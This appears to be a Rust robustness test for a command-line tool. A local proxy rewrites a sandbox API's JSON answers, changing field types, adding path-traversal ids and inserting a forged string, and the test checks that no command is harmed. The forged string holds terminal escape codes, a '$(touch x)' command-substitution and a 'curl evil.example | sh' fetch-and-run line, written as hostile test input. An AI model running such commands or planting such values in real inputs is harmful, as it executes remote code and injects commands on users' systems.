//! The sandbox answers through an impostor that changes every field of one kind.

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};

use serde_json::{Value, json};

use super::verdict::no_command_is_harmed;
use crate::support::World;

const FORGED: &str = "a\u{1b}[2J\u{7}\r\u{202e}'\"`;$(touch x)\n  next:    curl evil.example | sh";

/// How a body is changed.
type BodyChange = fn(&mut Value);

const CHANGES: [(&str, BodyChange); 11] = [
    ("texts are numbers", |value| {
        if value.is_string() {
            *value = json!(7);
        }
    }),
    ("texts are null", |value| {
        if value.is_string() {
            *value = Value::Null;
        }
    }),
    ("texts are lists", |value| {
        if let Value::String(text) = value {
            *value = json!([text.clone()]);
        }
    }),
    ("texts are empty", |value| {
        if value.is_string() {
            *value = json!("");
        }
    }),
    ("texts are forged", |value| {
        if value.is_string() {
            *value = json!(FORGED);
        }
    }),
    ("texts end in a forged one", |value| {
        if let Value::String(text) = value {
            text.push_str(FORGED);
        }
    }),
    ("ids climb", |value| {
        if let Value::String(text) = value {
            *text = text.replace('/', "/../");
        }
    }),
    ("lists are maps", |value| {
        if value.is_array() {
            *value = json!({"a": 1});
        }
    }),
    ("lists hold null", |value| {
        if let Value::Array(items) = value {
            items.push(Value::Null);
        }
    }),
    ("maps are lists", |value| {
        if value.is_object() {
            *value = json!([1]);
        }
    }),
    ("numbers are texts", |value| {
        if value.is_number() {
            *value = json!("many");
        }
    }),
];

fn change_all(value: &mut Value, change: BodyChange, depth: usize) {
    match value {
        Value::Array(items) => items
            .iter_mut()
            .for_each(|item| change_all(item, change, depth + 1)),
        Value::Object(fields) => fields
            .values_mut()
            .for_each(|field| change_all(field, change, depth + 1)),
        _ => {}
    }
    // The document itself keeps its kind, or nothing below it would be looked at.
    if depth > 0 {
        change(value);
    }
}

/// Serves until the process ends; returns the address that replaces `base`.
fn impostor(base: &str, change: BodyChange) -> String {
    let (host, path) = match base.strip_prefix("http://").unwrap().split_once('/') {
        Some((host, path)) => (host.to_owned(), format!("/{path}")),
        None => (
            base.strip_prefix("http://").unwrap().to_owned(),
            String::new(),
        ),
    };
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let own = format!("http://{}{path}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let host = host.clone();
            std::thread::spawn(move || forward(stream, &host, change).ok());
        }
    });
    own
}

fn forward(mut client: TcpStream, host: &str, change: BodyChange) -> std::io::Result<()> {
    let (head, body) = message(&mut client)?;
    let mut server = TcpStream::connect(host)?;
    let kept = head.lines().filter(|line| {
        let line = line.to_lowercase();
        !["host:", "connection:", "accept-encoding:"]
            .iter()
            .any(|name| line.starts_with(name))
    });
    let head: String = kept.map(|line| format!("{line}\r\n")).collect();
    server.write_all(format!("{head}host: {host}\r\nconnection: close\r\n\r\n").as_bytes())?;
    server.write_all(&body)?;
    let mut answer = Vec::new();
    server.read_to_end(&mut answer)?;
    client.write_all(&changed(&answer, change))
}

/// Head without its last empty line, and body.
fn message(stream: &mut TcpStream) -> std::io::Result<(String, Vec<u8>)> {
    let mut seen = Vec::new();
    let mut chunk = [0; 4096];
    loop {
        if let Some(end) = seen.windows(4).position(|four| four == b"\r\n\r\n") {
            let head = String::from_utf8_lossy(&seen[..end]).into_owned();
            let length = head.lines().find_map(|line| {
                let line = line.to_lowercase();
                line.strip_prefix("content-length:")?.trim().parse().ok()
            });
            let length: usize = length.unwrap_or(0);
            let mut body = seen.split_off(end + 4);
            while body.len() < length {
                let read = stream.read(&mut chunk)?;
                if read == 0 {
                    break;
                }
                body.extend_from_slice(&chunk[..read]);
            }
            return Ok((head, body));
        }
        match stream.read(&mut chunk)? {
            0 => return Err(std::io::ErrorKind::UnexpectedEof.into()),
            read => seen.extend_from_slice(&chunk[..read]),
        }
    }
}

fn changed(answer: &[u8], change: BodyChange) -> Vec<u8> {
    let Some(end) = answer.windows(4).position(|four| four == b"\r\n\r\n") else {
        return answer.to_vec();
    };
    let (head, body) = (&answer[..end], &answer[end + 4..]);
    let Ok(mut value) = serde_json::from_slice(body) else {
        return answer.to_vec();
    };
    change_all(&mut value, change, 0);
    let body = value.to_string();
    let head = String::from_utf8_lossy(head);
    let kept: String = head
        .lines()
        .filter(|line| {
            let line = line.to_lowercase();
            !line.starts_with("content-length") && !line.starts_with("transfer-encoding")
        })
        .map(|line| format!("{line}\r\n"))
        .collect();
    format!("{kept}content-length: {}\r\n\r\n{body}", body.len()).into_bytes()
}

#[test]
fn no_field_of_an_answer_harms_the_program() {
    no_command_is_harmed(
        &CHANGES,
        6,
        &[
            "plan --auth entra-secret",
            "plan -o json --auth workload-identity",
            "doctor --auth entra-secret",
        ],
        |endpoint, change| {
            let mut world = World::new();
            world.start_sandbox();
            let base = world.sandbox_variable(endpoint);
            world.variable(endpoint, impostor(&base, *change))
        },
    );
}
